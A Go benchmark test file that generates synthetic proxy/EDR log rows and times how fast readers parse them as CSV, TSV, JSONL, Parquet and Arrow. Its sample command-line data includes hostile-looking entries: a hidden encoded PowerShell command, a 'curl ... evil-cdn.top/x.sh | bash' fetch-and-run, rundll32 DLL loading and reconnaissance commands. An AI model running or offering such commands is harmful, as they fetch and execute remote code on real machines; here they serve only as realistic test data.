package readers

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/apache/arrow/go/v17/arrow"
	"github.com/apache/arrow/go/v17/arrow/array"
	"github.com/apache/arrow/go/v17/arrow/memory"

	"github.com/vtenrich/vtenrich/pipeline/rows"
)

// logColumns are the columns of the generated log export: what a proxy or
// EDR export to CSV typically holds.
var logColumns = []string{"TimeGenerated", "Computer", "SrcIP", "DstIP", "User", "Url", "CommandLine", "SHA256", "Status", "Bytes"}

// logRows makes n deterministic log rows.
func logRows(n int) [][]string {
	rng := rand.New(rand.NewPCG(42, 7))
	hosts := []string{"web-01.corp.example", "dc-02", "ws-1187.eu.corp.example", "mail.example.org", "build-agent-7"}
	users := []string{`CORP\alice`, `CORP\svc_backup`, "bob@example.com", "SYSTEM", ""}
	domains := []string{"update.microsoft.com", "evil-cdn.top", "github.com", "pastebin.com", "login.example.net", "185.220.101.4"}
	cmds := []string{
		`C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule`,
		`powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`,
		`cmd /c "systeminfo && whoami /all"`,
		`/usr/bin/curl -sSL https://evil-cdn.top/x.sh | bash`,
		`rundll32.exe C:\Users\Public\a.dll,DllRegisterServer`,
		`python3 -m http.server 8080`,
	}
	out := make([][]string, n)
	for i := range out {
		sha := make([]byte, 32)
		for j := range sha {
			sha[j] = byte(rng.Uint32())
		}
		out[i] = []string{
			fmt.Sprintf("2024-05-%02dT%02d:%02d:%02d.%03dZ", 1+i/86400%28, i/3600%24, i/60%60, i%60, rng.IntN(1000)),
			hosts[rng.IntN(len(hosts))],
			fmt.Sprintf("10.%d.%d.%d", rng.IntN(256), rng.IntN(256), rng.IntN(256)),
			fmt.Sprintf("%d.%d.%d.%d", 1+rng.IntN(223), rng.IntN(256), rng.IntN(256), rng.IntN(256)),
			users[rng.IntN(len(users))],
			fmt.Sprintf("https://%s/path/%d/index.php?id=%d&q=search", domains[rng.IntN(len(domains))], rng.IntN(1000), rng.IntN(100000)),
			cmds[rng.IntN(len(cmds))],
			fmt.Sprintf("%x", sha),
			strconv.Itoa([]int{200, 200, 200, 301, 404, 500}[rng.IntN(6)]),
			strconv.Itoa(rng.IntN(1 << 20)),
		}
	}
	return out
}

// benchRows is how many rows each benchmark input holds (about 30 MB of CSV).
const benchRows = 100_000

// benchInputs caches the generated inputs, one per format.
var (
	benchOnce   sync.Once
	benchInputs map[rows.Format][]byte
)

// benchInput is the generated input in format f.
func benchInput(tb testing.TB, f rows.Format) []byte {
	benchOnce.Do(func() { benchInputs = makeBenchInputs(tb) })
	return benchInputs[f]
}

// makeBenchInputs writes the same log rows in every format.
func makeBenchInputs(tb testing.TB) map[rows.Format][]byte {
	data := logRows(benchRows)
	in := map[rows.Format][]byte{}

	var b bytes.Buffer
	w := csv.NewWriter(&b)
	_ = w.Write(logColumns)
	_ = w.WriteAll(data)
	in[rows.CSV] = bytes.Clone(b.Bytes())

	b.Reset()
	b.WriteString(strings.Join(logColumns, "\t") + "\n")
	for _, r := range data {
		b.WriteString(strings.Join(r, "\t") + "\n")
	}
	in[rows.TSV] = bytes.Clone(b.Bytes())

	b.Reset()
	for _, r := range data {
		b.WriteByte('{')
		for i, v := range r {
			if i > 0 {
				b.WriteByte(',')
			}
			k, _ := json.Marshal(logColumns[i])
			b.Write(k)
			b.WriteByte(':')
			if i >= 8 { // Status and Bytes are numbers
				b.WriteString(v)
			} else {
				s, _ := json.Marshal(v)
				b.Write(s)
			}
		}
		b.WriteString("}\n")
	}
	in[rows.JSONL] = bytes.Clone(b.Bytes())

	rec := logRecord(data)
	defer rec.Release()
	in[rows.Parquet] = parquetBytes(tb, rec)
	in[rows.Arrow] = arrowStreamBytes(tb, nil, rec)
	return in
}

// logRecord holds rows as an Arrow record: strings, with Status and Bytes
// as int64, as a Parquet export would type them.
func logRecord(data [][]string) arrow.Record {
	fields := make([]arrow.Field, len(logColumns))
	for i, name := range logColumns {
		fields[i] = arrow.Field{Name: name, Type: arrow.BinaryTypes.String, Nullable: true}
		if i >= 8 {
			fields[i].Type = arrow.PrimitiveTypes.Int64
		}
	}
	b := array.NewRecordBuilder(memory.DefaultAllocator, arrow.NewSchema(fields, nil))
	defer b.Release()
	for _, r := range data {
		for i, v := range r {
			if i >= 8 {
				n, _ := strconv.ParseInt(v, 10, 64)
				b.Field(i).(*array.Int64Builder).Append(n)
			} else {
				b.Field(i).(*array.StringBuilder).Append(v)
			}
		}
	}
	return b.NewRecord()
}

// benchRead reads the generated input of format f b.N times.
func benchRead(b *testing.B, f rows.Format) {
	data := benchInput(b, f)
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	b.ResetTimer()
	ctx := context.Background()
	for range b.N {
		r, err := Open(ctx, nil, bytes.NewReader(data), Options{Format: f})
		if err != nil {
			b.Fatal(err)
		}
		n := 0
		for {
			batch, err := r.Next(ctx)
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				b.Fatal(err)
			}
			n += batch.NumRows()
			batch.Release()
		}
		r.Close()
		if n != benchRows {
			b.Fatalf("read %d rows, want %d", n, benchRows)
		}
	}
	// MB/s counts input bytes, which differ a lot between formats (Parquet
	// is compressed); rows/s compares the readers on the same rows.
	b.ReportMetric(float64(benchRows)*float64(b.N)/b.Elapsed().Seconds(), "rows/s")
}

func BenchmarkReadCSV(b *testing.B)     { benchRead(b, rows.CSV) }
func BenchmarkReadTSV(b *testing.B)     { benchRead(b, rows.TSV) }
func BenchmarkReadJSONL(b *testing.B)   { benchRead(b, rows.JSONL) }
func BenchmarkReadParquet(b *testing.B) { benchRead(b, rows.Parquet) }
func BenchmarkReadArrow(b *testing.B)   { benchRead(b, rows.Arrow) }
